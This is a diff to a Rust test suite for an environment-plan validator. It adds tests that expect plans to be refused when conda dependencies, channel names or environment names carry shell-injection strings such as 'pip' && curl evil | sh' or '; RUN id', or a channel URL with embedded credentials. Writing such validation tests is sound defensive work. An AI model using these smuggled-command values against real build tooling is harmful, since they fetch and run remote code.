@@ -506,7 +506,8 @@ fn good_plan() -> Value {
         "cache_key": "0123456789abcdef".repeat(4),
         "output_set": "",
         "steps": [
-            {"kind": "create_env", "file": "envscan.conda.yaml", "name": "proj"},
+            {"kind": "create_env", "file": "envscan.conda.yaml", "name": "proj",
+             "channels": ["conda-forge"], "dependencies": ["python==3.11.7", "pip"]},
             {"kind": "install_lock", "file": "pylock.envscan.toml", "installer": "uv"},
             {"kind": "unpack", "source": "project", "destination": "/app"},
             {"kind": "set_env", "variables": {"PYTHONPATH": "/app"}},
@@ -620,6 +621,32 @@ fn a_plan_environment_name_with_a_shell_command_is_refused() {
         p["steps"][0]["name"] = json!("x && curl evil | sh")
     });
     assert_bad_plan(&out, "steps[0].name");
+}
+
+#[test]
+fn a_plan_conda_spec_with_a_quote_and_a_command_is_refused() {
+    // `dependencies = ["pip' && curl evil | sh && echo '"]`: pasted single-quoted into
+    // `conda create`. Invariant: exit 2 naming `steps[0].dependencies`.
+    let sb = Sandbox::new();
+    let out = plan_with(&sb, |p| {
+        p["steps"][0]["dependencies"] =
+            json!(["python==3.11.7", "pip' && curl evil | sh && echo '"])
+    });
+    assert_bad_plan(&out, "steps[0].dependencies");
+}
+
+#[test]
+fn a_plan_channel_with_credentials_or_a_space_is_refused() {
+    // A channel URL holding a password, and one with `; RUN id`. Invariant: exit 2 naming
+    // `steps[0].channels` for each.
+    for channel in [
+        "https://user:secret@conda.example/private",
+        "conda-forge; RUN id",
+    ] {
+        let sb = Sandbox::new();
+        let out = plan_with(&sb, |p| p["steps"][0]["channels"] = json!([channel]));
+        assert_bad_plan(&out, "steps[0].channels");
+    }
 }
 
 #[test]
